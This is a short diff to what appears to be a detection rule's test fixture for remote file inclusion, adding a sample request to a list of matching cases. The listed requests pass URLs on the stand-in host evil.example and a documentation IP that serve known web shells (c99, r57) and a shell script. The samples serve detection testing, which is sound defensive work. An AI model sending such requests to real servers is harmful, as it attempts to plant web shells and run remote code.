@@ -42,6 +42,7 @@ export default defineRule({
     'GET /a.php?conf=http://evil.example/c99.php HTTP/1.1',
     ...each('GET /a.php?conf=http://evil.example/{}.gif HTTP/1.1', 'r57 cmd byroe fx29'),
     'GET /a.php?conf=http://evil.example/c99.jpg HTTP/1.1',
+    'GET /a.php?x=http://203.0.113.9/a.sh HTTP/1.1',
   ],
   misses: [
     'GET /go?url=http://example.org/index.php HTTP/1.1',
